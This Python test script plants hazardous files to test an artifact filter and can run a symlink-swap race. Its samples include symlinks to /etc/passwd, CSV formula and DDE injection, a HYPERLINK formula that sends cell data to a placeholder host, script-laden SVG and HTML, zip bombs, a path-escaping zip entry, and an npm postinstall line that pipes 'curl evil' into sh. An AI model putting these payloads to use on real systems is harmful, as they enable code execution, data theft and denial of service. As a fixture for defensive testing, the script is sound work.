"""Plants every hazard of the artifact filter under a folder, or races it.

Usage, with this file as the program (python3 - ARGS < hazards.py works):
  plant DIR [CANARY]   plant the hazards under DIR; CANARY, when given, is a
                       host file that symbolic links point at. Prints one JSON
                       object: {"planted": [...], "skipped": {name: why}}.
  race DIR TARGET      until killed, swap DIR/swap (a folder) and
                       DIR/swapfile.csv with symbolic links to TARGET and
                       TARGET/inner.csv, by renames, as fast as it can.
Only the standard library is used: it runs inside a sandbox as it is.
"""
import json
import os
import socket
import struct
import sys
import zipfile
import zlib

PLANTED = []
SKIPPED = {}
HAZARDS = []


def hazard(name):
    def wrap(fn):
        def run(d, canary):
            try:
                fn(d, canary)
                PLANTED.append(name)
            except OSError as e:
                SKIPPED[name] = "%s: %s" % (type(e).__name__, e)
        HAZARDS.append(run)
        return run
    return wrap


def write(path, data):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode())


def zip_bytes(entries, method=zipfile.ZIP_DEFLATED):
    import io
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as z:
        for name, data in entries:
            z.writestr(name, data)
    return buf.getvalue()


CT_DOCX = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
           '<Default Extension="xml" ContentType="application/xml"/>'
           '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
           'officedocument.wordprocessingml.document.main+xml"/></Types>')
CT_XLSX = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
           '<Default Extension="xml" ContentType="application/xml"/>'
           '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
           'officedocument.spreadsheetml.sheet.main+xml"/></Types>')
CT_XLSM = CT_XLSX.replace("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                          "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
DOC = ('<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
       '<w:body><w:p><w:r><w:t>report</w:t></w:r></w:p></w:body></w:document>')


def png_bytes():
    def chunk(kind, data):
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))
    raw = zlib.compress(b"\x00\xff\x00\x00\xff")
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0))
            + chunk(b"IDAT", raw) + chunk(b"IEND", b""))


def overlap_zip():
    """Three central records that share one local header and stream."""
    data = zip_bytes([("a.txt", b"\x00" * (1 << 20))])
    eocd = data[-22:]
    size, off = struct.unpack("<II", eocd[12:20])
    rec = data[off:off + size]
    cd = b"".join(rec.replace(b"a.txt", n.encode(), 1) for n in ("a.txt", "b.txt", "c.txt"))
    end = eocd[:8] + struct.pack("<HHI", 3, 3, len(cd)) + eocd[16:]
    return data[:off] + cd + end


@hazard("symlink to /etc/passwd")
def _(d, canary):
    os.symlink("/etc/passwd", os.path.join(d, "link-passwd.csv"))


@hazard("symlink to ..")
def _(d, canary):
    os.symlink("..", os.path.join(d, "link-up"))


@hazard("symlink to /")
def _(d, canary):
    os.symlink("/", os.path.join(d, "link-root"))


@hazard("symlink to the canary")
def _(d, canary):
    if not canary:
        raise OSError("no canary given")
    os.symlink(canary, os.path.join(d, "link-canary.csv"))


@hazard("fifo")
def _(d, canary):
    os.mkfifo(os.path.join(d, "fifo.csv"))


@hazard("socket")
def _(d, canary):
    s = socket.socket(socket.AF_UNIX)
    s.bind(os.path.join(d, "sock.csv"))
    s.close()


@hazard("device node")
def _(d, canary):
    os.mknod(os.path.join(d, "null.csv"), 0o600 | 0o020000, os.makedev(1, 3))


@hazard("hard link")
def _(d, canary):
    write(os.path.join(d, "hard-a.csv"), "a,b\n")
    os.link(os.path.join(d, "hard-a.csv"), os.path.join(d, "hard-b.csv"))


@hazard("sparse 1 TB file")
def _(d, canary):
    with open(os.path.join(d, "sparse.csv"), "wb") as f:
        f.truncate(1 << 40)


@hazard("formula csv")
def _(d, canary):
    write(os.path.join(d, "formula.csv"),
          'name,value\n=HYPERLINK("http://e.x/?"&A1),-3.5\n@SUM(1+1),"+cmd|\' /C calc\'!A0"\n')


@hazard("svg with onload")
def _(d, canary):
    write(os.path.join(d, "plot.svg"), '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" '
          'onload="alert(1)"><script>alert(2)</script><rect width="9" height="9"/></svg>')


@hazard("docx with vbaProject.bin")
def _(d, canary):
    write(os.path.join(d, "macro.docx"), zip_bytes([("[Content_Types].xml", CT_DOCX),
          ("word/document.xml", DOC), ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 60)]))


@hazard("xlsm renamed xlsx")
def _(d, canary):
    write(os.path.join(d, "renamed.xlsx"), zip_bytes([("[Content_Types].xml", CT_XLSM),
          ("xl/workbook.xml", "<workbook/>")]))


@hazard("ole2 renamed xlsx")
def _(d, canary):
    write(os.path.join(d, "legacy.xlsx"), b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 1024)


@hazard("zip bomb")
def _(d, canary):
    zeros = b"\x00" * (10 << 20)
    write(os.path.join(d, "bomb.zip"), zip_bytes([("%02d.txt" % i, zeros) for i in range(20)]))


@hazard("overlapping zip bomb")
def _(d, canary):
    write(os.path.join(d, "overlap.zip"), overlap_zip())


@hazard("nested zip bomb")
def _(d, canary):
    inner = zip_bytes([("z.txt", b"\x00" * (10 << 20))])
    write(os.path.join(d, "nested.zip"), zip_bytes([("inner.zip", inner)]))


@hazard("zip with escaping entry")
def _(d, canary):
    write(os.path.join(d, "escape.zip"), zip_bytes([("../../etc/cron.d/x.txt", "x")]))


@hazard("html named png")
def _(d, canary):
    write(os.path.join(d, "fake.png"), "<html><script>alert(1)</script></html>")


@hazard("elf named csv")
def _(d, canary):
    write(os.path.join(d, "elf.csv"), b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56)


@hazard("deep tree")
def _(d, canary):
    write(os.path.join(d, "deep", *(["d"] * 20), "x.csv"), "a\n")


@hazard("long path")
def _(d, canary):
    write(os.path.join(d, "long", *(["p" * 250] * 5), "x.csv"), "a\n")


@hazard("control characters in names")
def _(d, canary):
    root = os.fsencode(d)
    for name in (b"ctrl\x01name.csv", b"new\nline.csv", b"bad\xffname.csv", "rlo\u202egpj.csv".encode()):
        with open(os.path.join(root, name), "wb") as f:
            f.write(b"a\n")


@hazard("hidden names")
def _(d, canary):
    write(os.path.join(d, ".env.txt"), "TOKEN=from-the-sandbox\n")
    write(os.path.join(d, ".git", "hooks", "post-checkout.txt"), "#!/bin/sh\n")


@hazard("npm install script")
def _(d, canary):
    write(os.path.join(d, "pkg", "package.json"),
          '{"name": "x", "scripts": {"test": "true", "postinstall": "curl evil | sh"}}\n')


@hazard("racing folder")
def _(d, canary):
    write(os.path.join(d, "swap", "inner.csv"), "safe,1\n")
    write(os.path.join(d, "swapfile.csv"), "safe,2\n")


@hazard("safe files")
def _(d, canary):
    ok = os.path.join(d, "ok")
    write(os.path.join(ok, "good.csv"), "a,b\n1,-2.5\n")
    write(os.path.join(ok, "plot.png"), png_bytes())
    write(os.path.join(ok, "data.json"), '{"rows": 2}\n')
    write(os.path.join(ok, "report.md"), "# Report\n\nAll fine.\n")
    write(os.path.join(ok, "page.html"), "<!DOCTYPE html><html><body><h1>Report</h1></body></html>\n")
    write(os.path.join(ok, "book.xlsx"), zip_bytes([("[Content_Types].xml", CT_XLSX),
          ("xl/workbook.xml", "<workbook/>")]))


def plant(d, canary):
    os.makedirs(d, exist_ok=True)
    for fn in HAZARDS:
        fn(d, canary)
    print(json.dumps({"planted": PLANTED, "skipped": SKIPPED}))


def race(d, target):
    swap, real, link = (os.path.join(d, n) for n in ("swap", ".swap-real", ".swap-link"))
    sfile, sreal, slink = (os.path.join(d, n) for n in ("swapfile.csv", ".swapfile-real", ".swapfile-link"))
    os.symlink(target, link)
    os.symlink(os.path.join(target, "inner.csv"), slink)
    while True:
        os.rename(swap, real)
        os.rename(link, swap)
        os.rename(sfile, sreal)
        os.rename(slink, sfile)
        os.rename(swap, link)
        os.rename(real, swap)
        os.rename(sfile, slink)
        os.rename(sreal, sfile)


if __name__ == "__main__":
    if len(sys.argv) >= 3 and sys.argv[1] == "plant":
        plant(sys.argv[2], sys.argv[3] if len(sys.argv) > 3 else "")
    elif len(sys.argv) == 4 and sys.argv[1] == "race":
        race(sys.argv[2], sys.argv[3])
    else:
        sys.exit(__doc__)
